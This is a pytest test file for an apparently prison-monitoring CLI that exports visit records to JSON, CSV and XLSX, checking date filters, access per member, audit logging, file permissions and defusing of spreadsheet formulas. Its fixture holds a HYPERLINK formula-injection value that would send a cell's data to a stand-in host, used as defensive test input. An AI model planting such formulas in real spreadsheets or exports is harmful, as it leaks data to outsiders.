import asyncio
import csv
import io
import json
import sqlite3
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner, Result

from bot.cli import app
from bot.report import sheets
from bot.report.tables import harmless
from bot.report.wanted import Wanted
from bot.sentences import CommandError
from conversations.inputs.link import Link, Links
from conversations.visit_record import Observation, VisitRecord
from store import members, versions, visits
from store.crypto import Keyring
from store.database import Store
from tests.bot.conftest import BOTH, MEMBERS, NOW, PERTH

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"press")'
TWO = Links(chosen=(Link(qi="2.6", standard=2, rank=1), Link(qi="", standard=9)))


def made(place: str, name: str, day: date, *observations: Observation, **others: Any) -> VisitRecord:
    return VisitRecord(
        establishment=place, establishment_name=name, visit="made", date=day, observations=observations, **others
    )


RECORDS = (
    (PERTH, made("perth", "HMP Perth", date(2026, 10, 31), areas=("C Hall",), time_in="10:15", time_out="12:40")),
    (
        BOTH,
        made(
            "low-moss",
            "HMP Low Moss",
            date(2026, 11, 2),
            Observation(text=FORMULA, source="seen", kind="neutral", links=TWO),
            Observation(
                text="Food cold “again”,\nat lunch",
                source="told by a prisoner",
                kind="concern",
                governor_told=True,
                coordinator_told=False,
                look_again=date(2026, 12, 1),
            ),
            prisoners=6,
            staff=0,
            requests=2,
            note_for_next="+44 is no formula",
        ),
    ),
)


@pytest.fixture
def filed(home: Path) -> Path:
    """A folder with two filed visits of different prisons, the first amended since."""
    asyncio.run(_file(home))
    return home


async def _file(home: Path) -> None:
    store = await Store.open(home, Keyring.load(home, None), NOW)
    async with store.writing(NOW) as work:
        for number, (chat, record) in enumerate(RECORDS):
            author = await members.by_chat(work, chat)
            assert author is not None
            whole = record.model_copy(update={"companions": (author.id,)} if chat == BOTH else {})
            visit = versions.Content(record.establishment, record.date.isoformat(), whole.model_dump_json(), "2018", 1)
            await visits.file(work, visit, author.id, f"draft-{number}")
        author = await members.by_chat(work, PERTH)
        assert author is not None
        amended = RECORDS[0][1].model_copy(update={"staff": 3})
        visit = versions.Content("perth", "2026-10-31", amended.model_dump_json(), "2018", 1)
        await visits.amend(work, "V-0001", visit, "=a count was forgotten", author, 1)
    await store.close()


def ipm(home: Path, *arguments: str) -> Result:
    return CliRunner().invoke(app, ["report", "visits", *arguments], env={"IPM_HOME": str(home)})


def exported(home: Path, *arguments: str) -> list[dict[str, Any]]:
    result = ipm(home, "--format", "json", *arguments)
    assert result.exit_code == 0, result.output
    return list(json.loads(result.stdout))


def test_a_record_has_all_that_was_filed(filed: Path) -> None:
    first, second = exported(filed)
    assert (first["reference"], first["version"], first["change_reason"]) == ("V-0001", 2, "=a count was forgotten")
    assert (first["time_in"], first["time_out"], first["areas"]) == ("10:15", "12:40", ["C Hall"])
    assert (first["prisoners"], first["staff"], first["observations"]) == (None, 3, [])
    assert (second["establishment"], second["establishment_id"]) == ("HMP Low Moss", "low-moss")
    assert (second["date"], second["time_in"], second["prisoners"], second["staff"]) == ("2026-11-02", None, 6, 0)
    assert (second["requests"], second["note_for_next_visit"]) == (2, "+44 is no formula")
    assert second["companions"] == [MEMBERS[1][1]]
    assert second["observations"][0] == {
        "text": FORMULA,
        "source": "seen",
        "kind": "neutral",
        "links": [
            {"qi": "2.6", "standard": 2, "label": second["observations"][0]["links"][0]["label"]},
            {"qi": None, "standard": 9, "label": second["observations"][0]["links"][1]["label"]},
        ],
        "governor_told": None,
        "coordinator_told": None,
        "look_again": None,
    }
    assert all(link["label"] for link in second["observations"][0]["links"])
    concern = second["observations"][1]
    assert (concern["governor_told"], concern["coordinator_told"], concern["look_again"]) == (True, False, "2026-12-01")
    assert second["edition"] == "2018"
    assert second["filed_at"] == "2026-11-22T15:00:00Z"
    assert second["receipt"]


@pytest.mark.parametrize(
    ("days", "references"),
    [
        ([], ["V-0001", "V-0002"]),
        (["--from", "2026-11-01"], ["V-0002"]),
        (["--from", "1/11/2026", "--to", "30 Nov 2026"], ["V-0002"]),
        (["--to", "31/10/2026"], ["V-0001"]),
        (["--from", "31/10/2026", "--to", "2026-11-02"], ["V-0001", "V-0002"]),
        (["--from", "2026-12-01"], []),
    ],
)
def test_the_days_are_british_or_iso_and_both_included(filed: Path, days: list[str], references: list[str]) -> None:
    assert [record["reference"] for record in exported(filed, *days)] == references


@pytest.mark.parametrize(
    ("days", "says"),
    [
        (["--from", "2026-13-01"], "--from '2026-13-01' is no date I know"),
        (["--from", "2026-11-02", "--to", "2026-11-01"], "is before --from"),
    ],
)
def test_days_that_cannot_be_are_said_so(home: Path, days: list[str], says: str) -> None:
    result = ipm(home, *days)
    assert result.exit_code == 1
    assert says in result.stderr
    assert result.stdout == ""


async def _ids(home: Path) -> dict[str, str]:
    store = await Store.open(home, Keyring.load(home, None), NOW)
    async with store.reading(NOW) as work:
        found = {member.label: member.id for member in await members.everyone(work)}
    await store.close()
    return found


def test_a_member_gets_what_the_member_may_read(filed: Path) -> None:
    ids = asyncio.run(_ids(filed))
    told = {label: [r["reference"] for r in exported(filed, "--as", ids[label])] for _, label, _, _ in MEMBERS}
    assert told == {
        "Monitor, HMP Perth": ["V-0001"],
        "Monitor, HMP Perth and HMP Low Moss": ["V-0001", "V-0002"],
        "Co-ordinator, HMP Perth": ["V-0001"],
        "Administrator": [],
    }


def test_every_export_is_in_the_audit_log_with_who_it_was_for(filed: Path) -> None:
    monitor = asyncio.run(_ids(filed))["Monitor, HMP Perth"]
    exported(filed)
    exported(filed, "--as", monitor)
    with sqlite3.connect(filed / "ipm.sqlite3") as database:
        rows = database.execute(
            "SELECT actor, details FROM audit WHERE action = 'visits.export' ORDER BY seq"
        ).fetchall()
    database.close()
    assert [actor for actor, _ in rows] == ["operator", monitor]
    assert [json.loads(details)["count"] for _, details in rows] == [2, 1]


def test_csv_has_a_line_an_observation_and_nothing_a_spreadsheet_would_run(filed: Path) -> None:
    result = ipm(filed, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))
    assert [row["reference"] for row in rows] == ["V-0001", "V-0002", "V-0002"]
    assert rows[0]["observation_text"] == ""
    assert rows[0]["change_reason"] == "'=a count was forgotten"
    assert rows[1]["observation_text"] == f"'{FORMULA}"
    assert rows[1]["note_for_next_visit"] == "'+44 is no formula"
    assert rows[2]["observation_text"] == "Food cold “again”,\nat lunch"
    assert (rows[2]["observation_governor_told"], rows[2]["observation_coordinator_told"]) == ("yes", "no")
    assert (rows[1]["prisoners"], rows[0]["prisoners"]) == ("6", "")
    assert {row["marking"] for row in rows} == {"OFFICIAL-SENSITIVE"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n=", "＝"])
def test_what_looks_like_a_formula_is_made_text(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"
    assert harmless("1+1 = 2") == "1+1 = 2"
    assert harmless(-1) == -1
    assert harmless(None) is None


def test_xlsx_is_two_sheets_marked_frozen_and_without_formulas(filed: Path, tmp_path: Path) -> None:
    file = tmp_path / "visits.xlsx"
    assert ipm(filed, "--format", "xlsx", "--output", str(file)).exit_code == 0
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["Visits", "Observations", "Summary"]
    for sheet in book:
        assert sheet.freeze_panes == "B2"
        assert "OFFICIAL-SENSITIVE" in str(sheet.oddHeader.center.text)
        assert "OFFICIAL-SENSITIVE" in str(sheet.oddFooter.center.text)
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert [cell.value for cell in book["Visits"]["A"]] == ["reference", "V-0001", "V-0002"]
    texts = [row[4].value for row in book["Observations"].iter_rows(min_row=2)]
    assert texts == [FORMULA, "Food cold “again”,\nat lunch"]
    book.close()


def test_a_text_longer_than_a_cell_goes_on_in_the_next_row() -> None:
    text = "".join(f"{number:06d}" for number in range(12_000))
    rows = list(sheets.in_cells(["V-0001", 3, None, text]))
    assert "".join(str(row[3]) for row in rows) == text
    assert {row[0] for row in rows} == {"V-0001"}
    assert [row[1] for row in rows] == [3, None, None]


def test_a_file_is_for_its_owner_alone_and_named_by_its_marking(filed: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    result = ipm(filed, "--from", "1/10/2026", "--output", str(folder))
    (file,) = folder.iterdir()
    assert file.name == "OFFICIAL-SENSITIVE visits from 2026-10-01.json"
    assert file.stat().st_mode & 0o777 == 0o600
    assert str(file) in result.stderr
    assert result.stdout == ""
    assert len(json.loads(file.read_text(encoding="utf-8"))) == 2


def test_xlsx_without_an_output_makes_a_file_here(filed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert ipm(filed, "--format", "xlsx").exit_code == 0
    assert (tmp_path / "OFFICIAL-SENSITIVE visits.xlsx").is_file()


def test_a_place_that_cannot_be_written_to_is_said_so(filed: Path, tmp_path: Path) -> None:
    result = ipm(filed, "--output", str(tmp_path / "no" / "such" / "file.json"))
    assert result.exit_code == 1
    assert "No such file" in result.stderr


def test_wanted_reads_what_was_typed() -> None:
    wanted = Wanted.of("visit", "json", "yesterday", "", None, None, NOW)
    assert (wanted.first, wanted.last) == (date(2026, 11, 21), None)
    with pytest.raises(CommandError):
        Wanted.of("visit", "json", "", "soon", None, None, NOW)
